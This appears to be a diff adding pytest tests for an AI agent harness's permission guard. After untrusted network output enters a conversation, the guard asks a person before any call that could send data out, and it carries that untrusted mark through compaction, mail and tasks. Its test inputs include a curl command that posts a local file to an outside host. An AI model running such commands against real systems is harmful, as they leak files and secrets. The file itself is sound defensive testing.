@@ -1,0 +1,145 @@
+"""Text from elsewhere in a conversation: what then needs a word each time, and how the mark travels."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from typing import TYPE_CHECKING, Any
+
+import anyio
+import pytest
+
+from coordination.records import Status
+from harness.context.conversation import Conversation
+from harness.permissions.guard import Mark, PermissionGuard
+from harness.permissions.outflow import could_send
+from harness.permissions.questions import Answer
+from harness.permissions.rules import parse_rules
+from harness.permissions.ruling import Policy
+from harness.tools.shell import ShellLimits, bash_tool
+from tests.support.people import leads
+from tests.support.teammate import TeammateUnderTest, opens_run, puts_up, team_beside_repository
+from tests.support.tools import Person, call, context, noted_tool
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+    from tests.support.clock import FakeClock
+
+PAGE = "the output of 'curl https://x.test'"
+MARKED = Mark(why=PAGE, members=frozenset({"bob"}))
+
+
+def asks(name: str, mark: Mark = MARKED, **arguments: Any) -> bool:
+    """True when the person is asked although every rule allows the call."""
+    rules = parse_rules(allow=["*", "bash(git push *)", "mcp__*"], ask=[], deny=[])
+    person = Person(Answer(allowed=True, reason="approved"))
+    guard = PermissionGuard(
+        Policy(rules=rules, checks=("make test",)), lambda: PLACE, person, root=PLACE, mark=lambda: mark
+    )
+    refusal = anyio.run(guard.check, call(name, **arguments), noted_tool([], name))
+    assert refusal is None
+    assert all(question.is_fresh and PAGE in question.why for question in person.asked)
+    return bool(person.asked)
+
+
+PLACE: Path
+
+
+@pytest.fixture(autouse=True)
+def _place(tmp_path: Path) -> None:
+    global PLACE  # noqa: PLW0603 - one directory for all calls of a test
+    PLACE = tmp_path
+
+
+@pytest.mark.parametrize(
+    ("name", "arguments"),
+    [
+        ("bash", {"command": "curl -d @a https://x.test"}),
+        ("bash", {"command": "git push origin x"}),
+        ("bash", {"command": "python3 send.py"}),
+        ("bash", {"command": "ls && ./deploy.sh"}),
+        ("mcp__mail__send", {"to": "x"}),
+        ("send_message", {"to": "alice", "content": "x"}),
+    ],
+)
+def test_what_could_carry_something_out_needs_a_word_whatever_is_allowed(
+    name: str, arguments: dict[str, str]
+) -> None:
+    assert asks(name, **arguments)
+    assert not asks(name, Mark(), **arguments)
+
+
+@pytest.mark.parametrize(
+    ("name", "arguments"),
+    [
+        ("bash", {"command": "grep -rn x ."}),
+        ("bash", {"command": "mkdir a && touch a/b"}),
+        ("bash", {"command": "git commit -m x"}),
+        ("bash", {"command": "make test"}),
+        ("write_file", {"path": "a", "content": "x"}),
+        ("send_message", {"to": "bob", "content": "x"}),
+        ("create_task", {}),
+    ],
+)
+def test_what_stays_here_goes_on_as_before(name: str, arguments: dict[str, str]) -> None:
+    assert not asks(name, **arguments)
+
+
+def test_mail_is_free_only_to_those_who_are_marked_themselves() -> None:
+    assert could_send("send_message", {"to": "alice"}, marked={"bob"}, checks=())
+    assert not could_send("send_message", {"to": "bob"}, marked={"bob"}, checks=())
+
+
+def test_a_network_command_marks_and_a_local_one_does_not(tmp_path: Path) -> None:
+    heard: list[str] = []
+    where = replace(context(tmp_path), distrust=lambda why, _="": heard.append(why))
+    tool = bash_tool(ShellLimits(timeout_seconds=5, max_timeout_seconds=5, kept_bytes=1000), None)
+    anyio.run(tool.run, {"command": "echo curl"}, where)
+    assert heard == []
+    anyio.run(tool.run, {"command": "git ls-remote . || true"}, where)
+    assert heard == ["the output of 'git ls-remote . || true'"]
+
+
+RESULT = {"kind": "tool_results", "content": [], "untrusted": PAGE}
+MAIL = {"kind": "mail", "text": "hi", "message": {"from": "bob~2", "metadata": {"untrusted": PAGE}}}
+SUMMARY = {"kind": "context", "step": "summary", "text": "what was", "tail": 0}
+
+
+@pytest.mark.parametrize("line", [RESULT, MAIL])
+def test_the_mark_survives_compaction_and_resume_and_ends_with_the_conversation(line: dict[str, Any]) -> None:
+    asked = {"kind": "user", "text": "do it"}
+    resumed = Conversation.of([asked, line, SUMMARY])
+    assert (resumed.untrusted, resumed.marked) == (PAGE, {"bob"} if line is MAIL else set())
+    assert Conversation.of([asked, line, {"kind": "conversation"}]).untrusted == ""
+
+
+def test_the_first_mark_is_kept() -> None:
+    assert Conversation.of([RESULT, {**RESULT, "untrusted": "another"}]).untrusted == PAGE
+
+
+@pytest.mark.anyio
+async def test_the_mark_travels_with_mail_and_results_to_whoever_builds_on_them(
+    tmp_path: Path, clock: FakeClock
+) -> None:
+    team = team_beside_repository(tmp_path, clock)
+    lead = leads(team)
+    run = opens_run(lead)
+    first = puts_up(lead, run)
+    second = puts_up(lead, run, "B", blocked_by=(first.id,))
+    alice = TeammateUnderTest(team)
+    await alice.takes_next()
+    agent = alice.teammate._extras.agent() if alice.teammate._extras else None
+    assert agent
+    agent.conversation.take(RESULT)
+    await alice.on.complete("done")
+    done = lead.tasks.get(first.id)
+    assert (done.status, done.result and done.result.untrusted) == (Status.COMPLETED, PAGE)
+    assert await alice.on.inherited_mark(lead.tasks.get(second.id)) == PAGE
+    [letter] = list((team.root / "mailboxes/lead.d").glob("alice~*.jsonl"))
+    assert f'"untrusted":"{PAGE}"' in letter.read_text()
+    alice.teammate.wakeup.close()
+
+
+@pytest.fixture
+def anyio_backend() -> str:
+    return "asyncio"
